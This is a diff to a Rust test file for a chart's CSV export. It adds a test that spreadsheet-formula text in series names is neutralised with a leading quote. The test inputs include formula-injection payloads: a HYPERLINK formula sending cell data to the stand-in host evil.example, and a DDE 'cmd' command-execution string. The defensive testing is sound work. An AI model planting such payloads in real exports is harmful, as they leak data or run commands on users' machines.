@@ -264,11 +264,53 @@ fn the_csv_holds_the_numbers_behind_the_chart() {
     assert_eq!(lines.len(), 25);
     assert_eq!(
         lines[0],
-        "bucket_start,GET /v1/contacts,R&D <bot> POST /v1/messages/send,Other (2)"
+        r#""bucket_start","GET /v1/contacts","R&D <bot> POST /v1/messages/send","Other (2)""#
     );
-    assert_eq!(lines[1], "2026-11-20T01:00:00+01:00,10,5,2.500");
-    assert_eq!(lines[2], "2026-11-20T02:00:00+01:00,,5,2");
-    assert_eq!(lines[24], "2026-11-21T00:00:00+01:00,33,20,2");
+    assert_eq!(lines[1], r#""2026-11-20T01:00:00+01:00",10,5,2.500"#);
+    assert_eq!(lines[2], r#""2026-11-20T02:00:00+01:00","",5,2"#);
+    assert_eq!(lines[24], r#""2026-11-21T00:00:00+01:00",33,20,2"#);
+}
+
+#[test]
+fn csv_text_cells_cannot_become_spreadsheet_formulas() {
+    let mut chart = volume();
+    let names = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTAB",
+    ];
+    chart.series = names
+        .iter()
+        .map(|name| Series {
+            name: name.to_string(),
+            values: vec![Some(-3.5); 24],
+            style: Style::Line,
+            hue: Hue::Palette(None),
+        })
+        .collect();
+    let csv = to_csv(&chart).expect("csv");
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header: Vec<String> = reader
+        .headers()
+        .expect("header")
+        .iter()
+        .map(str::to_string)
+        .collect();
+    for (cell, name) in header[1..].iter().zip(names) {
+        assert_eq!(cell, &format!("'{name}"), "a leading quote makes it text");
+    }
+    let header_line = csv.lines().next().expect("header line");
+    assert!(
+        header_line.contains(r#","'=HYPERLINK(""http://evil.example/?""&A1,""x"")","#),
+        "quoted, inner quotes doubled: {header_line}"
+    );
+    let first = csv.lines().nth(1).expect("first row");
+    assert!(
+        first.ends_with(",-3.500,-3.500,-3.500,-3.500,-3.500"),
+        "numbers, negative ones too, stay numbers: {first}"
+    );
 }
 
 #[test]
